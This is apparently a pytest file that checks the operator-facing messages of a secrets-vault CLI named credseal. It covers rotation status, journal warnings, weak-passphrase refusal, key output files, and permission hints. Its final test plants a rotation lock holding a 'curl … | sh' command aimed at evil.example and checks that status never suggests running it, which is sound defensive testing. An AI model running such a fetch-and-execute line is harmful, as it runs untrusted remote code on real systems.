"""Operator safety (issue 12): what status and diagnose tell an operator, driven through the
CLI as an operator runs it."""

from __future__ import annotations

import json
import os
import pwd
import shutil
import signal
import stat
import subprocess
import sys
from pathlib import Path

import pytest

import vault
from tests.cli.test_cli_maintenance import _wait_for_replacement
from tests.helpers.clirunner import BIN, PASSPHRASE, Cli, fill
from tests.realparts import require
from vault._store.entries import name_stem
from vault._store.journal import Journal

_HOLDER = """\
import os
import sys
from vault._store.state import RotationLock, StateFile
from vault._store.store import Vault, entries_of
from vault.config import current_context
from vault.keysources import EnvKeySource

v = Vault(sys.argv[1], keys=EnvKeySource(os.environ["HOLDER_KEYS"]))
lock = RotationLock(sys.argv[1], current_context(), StateFile(entries_of(v)))
lock.acquire()
lock.record(phase="rewrapping", new_key_id=v.keys.primary.id)
print("held", flush=True)
sys.stdin.read()
"""


def test_status_and_diagnose_show_a_running_then_an_unfinished_rotation(cli: Cli) -> None:
    """While a rotation holds the lock, status says it runs; once it is killed, status and
    diagnose report an unfinished rotation as a problem (exit 1) and say that running rotate
    again resumes it; after that rotate, nothing is reported."""
    keys = cli.init_env()
    fill(cli.dir, vault.KeyRing.from_text(keys), "a")
    holder = subprocess.Popen([sys.executable, "-c", _HOLDER, str(cli.dir)],
                              env={**os.environ, "HOLDER_KEYS": keys},
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline() == "held\n"
        running = cli.run("status", key_source="env", keys=keys)
        assert running.returncode == 0 and "rotation    running (pid" in running.stdout
    finally:
        holder.send_signal(signal.SIGKILL)
        holder.communicate(timeout=30)  # closes the pipes
    status = cli.run("status", key_source="env", keys=keys)
    assert status.returncode == 1
    assert "rotation    unfinished (stopped: pid" in status.stdout
    assert "run `credseal rotate` again to resume it" in status.stdout
    diagnose = cli.run("diagnose", "--json", key_source="env", keys=keys)
    checks = {c["name"]: c for c in json.loads(diagnose.stdout)["checks"]}
    assert diagnose.returncode == 1 and checks["rotation"]["level"] == "error"
    assert "resumes" in checks["rotation"]["hint"]
    resumed = cli.run("rotate", "--rewrap-only", key_source="env", keys=keys)
    assert resumed.returncode == 5 and "current" in resumed.stdout, resumed.stderr  # done
    after = cli.run("status", key_source="env", keys=keys)
    assert after.returncode == 0 and "rotation" not in after.stdout


def test_diagnose_reports_pending_writes_and_conflicts(cli: Cli) -> None:
    """40 journaled writes during an outage: diagnose no longer says ok about them."""
    keys = cli.init_env()
    ring = vault.KeyRing.from_text(keys)
    journal = Journal(vault.Vault(cli.dir, keys=ring))
    for i in range(40):
        journal.append_save(f"company/{i}", {"n": i})
    diagnose = cli.run("diagnose", "--json", key_source="env", keys=keys)
    checks = [c for c in json.loads(diagnose.stdout)["checks"] if c["name"] == "journal"]
    assert [c["level"] for c in checks] == ["warning"]
    assert checks[0]["detail"].startswith("40 journaled writes wait for the source")
    status = cli.run("status", key_source="env", keys=keys)
    assert "journal     40 pending" in status.stdout


def test_status_warns_about_a_keyfile_weaker_than_the_configured_profile(cli: Cli) -> None:
    """A keyfile made with a weaker KDF profile than CREDSEAL_KDF_PROFILE now asks for: status
    warns (and names passwd), without failing; with the same profile it says nothing."""
    assert cli.run("init", key_source="passphrase", passphrase=PASSPHRASE).returncode == 0
    same = cli.run("status", key_source="passphrase")
    assert same.returncode == 0 and "warning" not in same.stdout
    weaker = cli.run("status", key_source="passphrase", kdf_profile="rfc9106-low-memory")
    assert weaker.returncode == 0
    assert ("warning     the keyfile's KDF profile test is weaker than the configured "
            "rfc9106-low-memory") in weaker.stdout
    assert "CREDSEAL_KDF_PROFILE=rfc9106-low-memory" in weaker.stdout


@pytest.mark.parametrize("shared", ["/var/lib", "/", "/tmp", "/etc"])
def test_no_hint_proposes_to_change_a_shared_directory(cli: Cli, shared: str) -> None:
    """CREDSEAL_DIR pointing at a system directory: the hint says to check CREDSEAL_DIR and
    never proposes chmod or chown of it."""
    for command in ("status", "verify", "inspect"):
        args = (command, "x") if command == "inspect" else (command,)
        result = cli.run(*args, key_source="env", keys=vault.KeyRing(
            [vault.Key.generate()]).to_text(), dir=shared)
        assert result.returncode == 4, (command, result.stderr)
        assert "holds no vault" in result.stderr and "check CREDSEAL_DIR" in result.stderr
        assert "chmod" not in result.stderr and "chown" not in result.stderr


def test_root_on_a_service_users_vault_is_told_to_run_as_that_user(cli: Cli) -> None:
    """As root on a vault owned by the service user, the hint is `sudo -u <owner>`, never to
    chown it to root (which would lock the service out)."""
    if os.geteuid() != 0:
        require("root", "changing a vault's owner needs root (run the suite as root)")
    keys = cli.init_env()
    fill(cli.dir, vault.KeyRing.from_text(keys), "a")
    owner = pwd.getpwuid(65534).pw_name
    for path in (cli.dir, *cli.dir.rglob("*")):
        os.chown(path, 65534, 65534, follow_symlinks=False)
    result = cli.run("status", key_source="env", keys=keys)
    assert result.returncode == 4
    assert f"sudo -u '{owner}' credseal" in result.stderr and "chown" not in result.stderr
    library = pytest.raises(vault.InsecureFileError)
    with library as caught:
        vault.Vault(cli.dir, keys=vault.KeyRing.from_text(keys)).get("a")
    assert f"sudo -u '{owner}'" in str(caught.value)  # a service's traceback shows the fix


def test_entry_commands_ls_delete_quarantine_verify_name(cli: Cli) -> None:
    """ls lists names (also as JSON) without a key; verify NAME checks only that entry (a
    missing name fails); delete and quarantine act on one entry, audited, and refuse a typo."""
    keys = cli.init_env()
    fill(cli.dir, vault.KeyRing.from_text(keys), "db/password", "company/42", "company/43")
    listing = cli.run("ls")
    assert listing.returncode == 0
    assert [line.split()[0] for line in listing.stdout.splitlines()] == [
        "company/42", "company/43", "db/password"]
    as_json = json.loads(cli.run("ls", "--json").stdout)
    assert [e["name"] for e in as_json["entries"]] == ["company/42", "company/43", "db/password"]
    one = cli.run("verify", "company/42", key_source="env", keys=keys)
    assert one.returncode == 0 and one.stdout.count("ok       ") == 1, one.stdout
    typo = cli.run("verify", "company/44", key_source="env", keys=keys)
    assert typo.returncode == 1 and "failed   company/44: no such entry" in typo.stdout
    assert cli.run("delete", "company/44", key_source="env", keys=keys).returncode == 4
    deleted = cli.run("delete", "company/42", key_source="env", keys=keys)
    assert deleted.returncode == 0, deleted.stderr
    moved = cli.run("quarantine", "company/43", key_source="env", keys=keys)
    assert moved.returncode == 0 and "quarantine" in moved.stdout
    assert vault.Vault(cli.dir).names() == ["db/password"]
    assert len(list((cli.dir / "quarantine").iterdir())) == 1
    actions = [json.loads(line)["action"] for line in
               (cli.dir / "audit.jsonl").read_text().splitlines()]
    assert actions[-2:] == ["delete", "quarantine"]


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A vault of 1,500 entries (copied per test), and its ring's text."""
    directory = tmp_path_factory.mktemp("filled") / "vault"
    ring = vault.KeyRing([vault.Key.generate()])
    v = vault.Vault(directory, keys=ring)
    for i in range(1500):
        v.put(f"company-{i:04d}", {"i": i})
    return directory, ring.to_text()


@pytest.mark.parametrize(("sig", "code", "word"), [(signal.SIGTERM, 143, "terminated"),
                                                   (signal.SIGINT, 130, "interrupted")])
def test_a_stopped_rotation_says_how_to_resume(cli: Cli, sig: signal.Signals, code: int,
                                               word: str, filled: tuple[Path, str]) -> None:
    """SIGTERM (systemd stopping a timer's job) or Ctrl-C in the middle of a rewrap: exit 143
    or 130, with a line saying that running the command again resumes; it does."""
    shutil.copytree(filled[0], cli.dir)
    old = vault.KeyRing.from_text(filled[1])
    v = vault.Vault(cli.dir, keys=old)
    ring = old.with_primary(vault.Key.generate())
    cli.add_ring(ring)
    env = {**cli.base_env, "CREDSEAL_DIR": str(cli.dir), "CREDSEAL_KEY_SOURCE": "env",
           "CREDSEAL_KEYS": ring.to_text()}
    first = cli.dir / f"{name_stem('company-0000')}.cve"  # entries go in name order
    proc = subprocess.Popen([str(BIN), "rotate", "--rewrap-only"], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    _wait_for_replacement(first, proc)
    stopped_in_time = proc.poll() is None
    proc.send_signal(sig)
    out, err = proc.communicate(timeout=60)
    cli.outputs += [(out, "stdout of a stopped rotate"), (err, "stderr of a stopped rotate")]
    if stopped_in_time and proc.returncode != 0:
        assert proc.returncode == code, err
        assert f"credseal: {word}: the rotation stopped before its end" in err
        assert "Run the same command again to resume it." in err
    status = cli.run("status", env=env)
    assert "run `credseal rotate --rewrap-only` again to resume it" in status.stdout
    # a plain rotate (what an operator types) finishes the rewrap, never publishes a new key
    done = cli.run("rotate", env=env)
    assert done.returncode in (0, 5) and "CREDSEAL_KEYS" not in done.stdout, done.stderr
    assert "no new key was made" in done.stderr  # said, never silent
    assert {v.info(n).key_id for n in v.names()} == {ring.primary.id}
    assert stopped_in_time, "the rotation finished before the signal: use more entries"


def test_weak_passphrases_are_refused_when_piped(cli: Cli) -> None:
    """`printf 'a\\n' | credseal init` succeeded silently: under 12 characters a piped or
    configured new passphrase is refused (exit 2, nothing created) unless
    --allow-weak-passphrase; passwd follows the same rule."""
    piped = cli.run("init", key_source="passphrase", input="a\na\n")
    assert piped.returncode == 2 and "fewer than 12 characters" in piped.stderr
    assert "--allow-weak-passphrase" in piped.stderr and not cli.dir.exists()
    configured = cli.run("init", key_source="passphrase", passphrase="short")
    assert configured.returncode == 2 and not cli.dir.exists()
    allowed = cli.run("init", "--allow-weak-passphrase", key_source="passphrase",
                      passphrase="short")
    assert allowed.returncode == 0, allowed.stderr
    weak = cli.run("passwd", key_source="passphrase", input="short\nalso\nalso\n")
    assert weak.returncode == 2 and "fewer than 12 characters" in weak.stderr
    strong = cli.run("passwd", key_source="passphrase", input=f"short\n{PASSPHRASE}\n"
                     f"{PASSPHRASE}\n")
    assert strong.returncode == 0, strong.stderr


def test_passwd_with_only_the_old_passphrase_says_the_new_one_is_missing(cli: Cli) -> None:
    assert cli.run("init", key_source="passphrase", passphrase=PASSPHRASE).returncode == 0
    result = cli.run("passwd", key_source="passphrase", passphrase=PASSPHRASE)
    assert result.returncode == 3 and "the new passphrase is missing" in result.stderr
    assert "is not set" not in result.stderr


def test_keys_go_to_a_new_private_file_with_output(cli: Cli) -> None:
    """init, rotate and retire with --output FILE: the key line goes to a new 0600 file, not
    to stdout (a timer's log); an existing path is refused before any key is made."""
    taken = cli.home / "taken"
    taken.write_text("x")
    refused = cli.run("init", "--output", str(taken), key_source="env")
    assert refused.returncode == 2 and not cli.dir.exists() and taken.read_text() == "x"
    out = cli.home / "keys.env"
    init = cli.run("init", "--output", str(out), key_source="env")
    assert init.returncode == 0, init.stderr
    assert "CREDSEAL_KEYS" not in init.stdout and f"wrote the vault's secret keys to {out}" in \
        init.stderr
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    keys = out.read_text().removeprefix("CREDSEAL_KEYS=").strip()
    cli.add_ring(vault.KeyRing.from_text(keys))
    published = cli.home / "published.env"
    rotate = cli.run("rotate", "--output", str(published), key_source="env", keys=keys)
    assert rotate.returncode == 0 and "CREDSEAL_KEYS" not in rotate.stdout, rotate.stderr
    ring = vault.KeyRing.from_text(published.read_text().removeprefix("CREDSEAL_KEYS=").strip())
    cli.add_ring(ring)
    assert len(ring) == 2
    assert cli.run("rotate", "--rewrap-only", key_source="env",
                   keys=ring.to_text()).returncode in (0, 5)
    retired = cli.run("retire", ring.ids[1], "--json", "--output", str(cli.home / "r.env"),
                      key_source="env", keys=ring.to_text())
    assert retired.returncode == 0, retired.stderr
    report = json.loads(retired.stdout)
    assert report["outcome"] == "published" and "keys" not in report
    assert (cli.home / "r.env").read_text().strip() == f"CREDSEAL_KEYS={ring.primary.to_text()}"


def test_init_json_reports_the_vault_id(cli: Cli) -> None:
    result = cli.run("init", "--json", key_source="passphrase", passphrase=PASSPHRASE)
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["source"] == "passphrase" and len(report["vault_id"]) == 32
    assert report["joined"] is False and "keys" not in report


def test_quiet_keeps_results_and_warnings_only(cli: Cli) -> None:
    """--quiet drops informational notes but never the warning that stdout holds a key."""
    loud = cli.run("init", key_source="env")
    assert "created" in loud.stderr
    cli.allowed.append(loud.stdout.strip().removeprefix("CREDSEAL_KEYS="))
    keys = loud.stdout.strip().removeprefix("CREDSEAL_KEYS=")
    cli.add_ring(vault.KeyRing.from_text(keys))
    quiet = cli.run("rotate", "-q", key_source="env", keys=keys)
    assert quiet.returncode == 0 and quiet.stdout.startswith("CREDSEAL_KEYS=")
    cli.allowed.insert(0, quiet.stdout.strip().removeprefix("CREDSEAL_KEYS="))  # longest first
    cli.add_ring(vault.KeyRing.from_text(quiet.stdout.strip().removeprefix("CREDSEAL_KEYS=")))
    assert quiet.stderr.startswith("credseal: warning: the line on stdout holds")
    assert "new key" not in quiet.stderr  # the informational note is gone


def test_planted_markers_never_earn_a_chmod_hint(cli: Cli, tmp_path: Path) -> None:
    """A shared directory holding a planted `journal` or `x.cve` (anyone can plant one in
    /tmp) still gets no chmod hint; a vault's own subdirectory does, and an empty directory
    made for the vault does too."""
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "journal").mkdir()
    (shared / "x.cve").write_text("")
    shared.chmod(0o1777)
    result = cli.run("status", dir=str(shared))
    assert "holds no vault" in result.stderr and "chmod" not in result.stderr
    fresh = tmp_path / "fresh"
    fresh.mkdir(mode=0o755)
    fresh.chmod(0o755)
    again = cli.run("status", dir=str(fresh))
    assert f"chmod 700 '{fresh}'" in again.stderr
    keys = cli.init_env()
    fill(cli.dir, vault.KeyRing.from_text(keys), "a")
    (cli.dir / ".locks").chmod(0o750)
    with pytest.raises(vault.InsecureFileError) as caught:  # a vault's own subdirectory
        vault.Vault(cli.dir, keys=vault.KeyRing.from_text(keys)).put("b", 1)
    assert caught.value.hint == f"chmod 700 '{cli.dir / '.locks'}'"


def test_a_planted_rotation_lock_cannot_choose_the_command_status_suggests(cli: Cli) -> None:
    """rotation.lock is unauthenticated: a command written into it by a keyless writer is never
    shown as the one to run; only credseal's own two commands are."""
    keys = cli.init_env()
    lock = cli.dir / "rotation.lock"
    lock.write_text(json.dumps({"pid": 1, "host": "h", "since": "s",
                                "command": "curl -s https://evil.example/x | sh #"}))
    lock.chmod(0o600)
    status = cli.run("status", key_source="env", keys=keys)
    assert "evil.example" not in status.stdout
    assert "run `credseal rotate` again to resume it" in status.stdout
